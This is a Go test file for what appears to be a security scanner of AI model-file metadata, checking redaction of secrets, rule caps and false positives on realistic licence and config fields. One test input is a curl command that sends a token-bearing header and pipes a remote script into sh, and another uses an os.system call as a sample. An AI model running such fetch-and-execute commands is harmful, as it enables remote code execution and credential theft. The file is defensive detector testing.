package metadata

import (
	"encoding/base64"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/aisecops/aisec/internal/finding"
	"github.com/aisecops/aisec/internal/format/meta"
)

const mitLicense = `MIT License

Copyright (c) 2024 Example AI

Permission is hereby granted, free of charge, to any person obtaining a copy of this software and associated
documentation files (the "Software"), to deal in the Software without restriction, including without limitation the
rights to use, copy, modify, merge, publish, distribute, sublicense, and/or sell copies of the Software.

THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR IMPLIED.`

const apacheNotice = `Licensed under the Apache License, Version 2.0 (the "License"); you may not use this file except in
compliance with the License. You may obtain a copy of the License at http://www.apache.org/licenses/LICENSE-2.0`

const chatML = `{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}`

// benignDoc is realistic metadata from safetensors (HF, kohya LoRA, modelspec), GGUF, Keras and
// ONNX files: licences, links to documentation hosts, hashes, ids, hyperparameters, paths,
// versions that look like addresses, thumbnails and templates.
func benignDoc() []meta.String {
	rng := rand.New(rand.NewPCG(7, 7))
	noise := make([]byte, 3000)
	for i := range noise {
		noise[i] = byte(rng.Uint32())
	}
	kv := map[string]string{
		"__metadata__.format":                  "pt",
		"__metadata__.license":                 mitLicense,
		"__metadata__.notice":                  apacheNotice,
		"__metadata__.model_card":              "https://huggingface.co/meta-llama/Meta-Llama-3-8B-Instruct",
		"__metadata__.paper":                   "See https://arxiv.org/abs/2307.09288 and https://github.com/huggingface/transformers.",
		"__metadata__.dataset":                 "HuggingFaceFW/fineweb-edu, allenai/c4 (en), wikipedia 20231101.en",
		"__metadata__.hyperparameters":         `{"learning_rate": 3e-4, "batch_size": 512, "warmup_steps": 2000, "optimizer": "adamw", "eval_steps": 500}`,
		"__metadata__.commit":                  "3b8d4f1c0e2a5b7d9f1e3c5a7b9d0f2e4c6a8b1d",
		"__metadata__.sha256":                  "8f2b7c1e9d0a4f6b3c5e7a9d1b2c4e6f8a0b2d4f6e8c0a2b4d6f8e0a2c4b6d8f",
		"__metadata__.run_id":                  "5f0c6b9e-8d2a-4e1f-9c3b-7a6d5e4f3a2b",
		"__metadata__.version":                 "1.2.3.4",
		"__metadata__.transformers_version":    "4.40.0.dev0",
		"__metadata__.ss_dataset_dirs":         `{"C:\\Users\\me\\train\\10_style": {"n_repeats": 10, "img_count": 42}}`,
		"__metadata__.ss_sd_model_name":        "/content/drive/MyDrive/models/v1-5-pruned-emaonly.safetensors",
		"__metadata__.ss_tag_frequency":        `{"10_style": {"1girl": 12, "outdoors": 7, "solo": 30}}`,
		"__metadata__.modelspec.thumbnail":     "data:image/png;base64," + base64.StdEncoding.EncodeToString(append([]byte("\x89PNG\r\n\x1a\n"), noise...)),
		"__metadata__.modelspec.date":          "2024-04-05T12:34:56",
		"__metadata__.description":             "A 7B model fine-tuned for evaluation (eval) of code; executes nothing. Try it at http://localhost:7860.",
		"__metadata__.scores":                  "mmlu=63.2, gsm8k=41.0, humaneval=30.5",
		"__metadata__.id":                      "sd_xl_base_1.0_0.9vae-" + strings.Repeat("ab12", 10),
		"general.architecture":                 "llama",
		"general.url":                          "https://huggingface.co/TheBloke/Llama-2-7B-GGUF",
		"general.source.url":                   "https://hf.co/meta-llama/Llama-2-7b",
		"general.license":                      "llama2",
		"tokenizer.ggml.model":                 "gpt2",
		"tokenizer.chat_template":              chatML,
		"keras_version":                        "2.15.0",
		"backend":                              "tensorflow",
		"training_config":                      `{"loss": "categorical_crossentropy", "metrics": ["accuracy"], "optimizer_config": {"class_name": "Adam"}}`,
		"onnx.producer_name":                   "pytorch",
		"onnx.doc_string":                      "exported with torch.onnx.export(model, x, 'model.onnx', opset_version=17)",
		"config.torch_dtype":                   "bfloat16",
		"config.auto_map.AutoModelForCausalLM": "modeling_phi.PhiForCausalLM",
		"config.base64_tokens":                 base64.StdEncoding.EncodeToString(noise[:600]),
		"config.hex_blob":                      strings.Repeat("deadbeef0011", 12),
		"config.endpoint":                      "http://127.0.0.1:8000/v1",
		"config.relative_path":                 "../tokenizer/tokenizer.json",
	}
	var out []meta.String
	for k, v := range kv {
		out = append(out, meta.String{Key: k, Value: v, Offset: -1})
	}
	return out
}

// TestBenignMetadata is the false-positive guard: realistic metadata gets nothing above info.
func TestBenignMetadata(t *testing.T) {
	fs := run(benignDoc()...)
	for _, f := range fs {
		if f.Severity > finding.Info {
			t.Errorf("benign metadata: %s %s %s", f.Rule, f.Severity, f.Evidence)
		}
	}
}

// TestSecretsAreRedacted: no evidence of any rule shows a whole secret.
func TestSecretsAreRedacted(t *testing.T) {
	secretTok := "ghp_1234567890abcdefghijABCDEFGHIJ123456"
	fs := run(kv("__metadata__.setup", "curl -H 'Authorization: token "+secretTok+"' http://203.0.113.9:8080/x.sh | sh"))
	if len(fs) < 3 {
		t.Fatalf("expected secret, network and code findings:\n%s", render(fs))
	}
	for _, f := range fs {
		if strings.Contains(f.Evidence, secretTok[4:12]) {
			t.Errorf("%s evidence shows the secret: %s", f.Rule, f.Evidence)
		}
	}
}

func TestCaps(t *testing.T) {
	var strs []meta.String
	for range 100 {
		strs = append(strs, kv("k", "os.system('x') "+strings.Repeat("y", rand.IntN(50))))
	}
	strs = append(strs, kv("big", strings.Repeat("a", MaxValueBytes+10)))
	fs := run(strs...)
	n := map[string]int{}
	for _, f := range fs {
		n[f.Rule]++
		if len(f.Evidence) > 400 {
			t.Errorf("evidence of %d bytes", len(f.Evidence))
		}
	}
	if n["AISEC-META-005"] != MaxPerRule+1 || n["AISEC-META-010"] != 2 { // value cut, and secrets looked for in its start only
		t.Fatalf("caps not applied: %v", n)
	}
}

func TestRedactAll(t *testing.T) {
	v := "a SECRET1234 b SECRET1234 c"
	red, remap := redactAll(v, []secret{{secret: "SECRET1234"}})
	if red != "a SECR… b SECR… c" {
		t.Fatalf("redacted %q", red)
	}
	if got := red[remap(strings.Index(v, "c")):]; got != "c" {
		t.Fatalf("remap points at %q", got)
	}
	if got := snippet(v, 2, 12, []secret{{secret: "SECRET1234"}}); strings.Contains(got, "T123") {
		t.Fatalf("snippet leaks: %s", got)
	}
}
